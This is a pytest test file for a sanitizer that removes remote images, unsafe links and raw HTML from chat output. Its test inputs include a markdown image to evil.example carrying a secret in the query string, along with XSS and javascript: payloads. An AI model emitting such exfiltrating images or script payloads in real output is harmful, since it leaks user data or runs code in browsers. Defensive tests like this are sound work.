import pytest

from gptdash.domain.safety import without_remote_content


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("plain **bold** and `code`", "plain **bold** and `code`"),
        ("![a chart](https://evil.example/x.png?q=secret)", "[a chart]"),
        ("![](//evil.example/x.png)", "[image]"),
        ('![a](https://evil.example/x_(1).png "title") after', "[a] after"),
        ("![a][ref]\n\n[ref]: https://evil.example/x.png", "[a]\n\n"),
        ("![dot](data:image/png;base64,AAAA)", "![dot](data:image/png;base64,AAAA)"),
        ("![x](data:image/svg+xml;base64,AAAA)", "[x]"),
        ("see [here](https://evil.example/?q=1)", "see here (`https://evil.example/?q=1`)"),
        ("see [here](javascript:alert(1))", "see here (`javascript:alert(1)`)"),
        ("[up](#top)", "[up](#top)"),
        ("[docs](https://docs.python.org/3/)", "[docs](https://docs.python.org/3/)"),
        ("<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)>"),
        ("</script><script>x</script>", "&lt;/script>&lt;script>x&lt;/script>"),
        ("1 < 2 and 3 > 2, a<b", "1 < 2 and 3 > 2, a<b"),
        (
            "```html\n<img src='https://x/y.png'>\n![a](https://x)\n```",
            "```html\n<img src='https://x/y.png'>\n![a](https://x)\n```",
        ),
        ("`![a](https://x)`", "`![a](https://x)`"),
        ("```\nnever closed ![a](https://x)", "```\nnever closed ![a](https://x)"),
    ],
)
def test_what_would_fetch_or_mislead_is_taken_out(said: str, shown: str) -> None:
    assert without_remote_content(said, allowed_hosts=frozenset({"docs.python.org"})) == shown


def test_long_hostile_text_is_read_in_time_that_grows_with_its_length() -> None:
    for text in ("![" * 20_000, "[a](" * 20_000, "<a" * 20_000, "`" * 40_000, "![a](" + "(" * 20_000):
        assert without_remote_content(text)
